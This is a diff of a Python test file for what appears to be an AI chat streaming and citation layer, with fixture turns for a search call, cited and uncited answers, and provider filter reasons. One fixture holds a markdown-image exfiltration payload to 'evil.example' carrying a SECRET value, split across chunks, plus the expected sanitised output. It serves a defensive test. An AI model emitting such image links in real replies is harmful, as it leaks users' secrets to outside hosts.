@@ -17,7 +17,7 @@ from tests.wire.server import ToolCallTurn, Turn
 QUESTION = "When is the hedge cut?"
 SEARCH = Turn(calls=(ToolCallTurn("search_knowledge_base", {"query": "hedge"}, "call_1"),))
 GOOD = Turn(("It is cut ", "in August [1]."))
-UNCITED = Turn(("It is cut ", "in August."))
+UNCITED = Turn(("A king cuts it ", "with scissors in August."))
 EVIL = Turn(("See ![", "x](ht", "tp://ev", "il.example/?q=", "SEC", "RET) and [4", "2] in Aug", "ust [1]."))
 CLEAN = "See [x]([link removed: evil.example]) and in August [1]."
 FILTER_REASONS = {"openai": "content_filter", "anthropic": "refusal", "gemini": "SAFETY", "groq": "content_filter"}
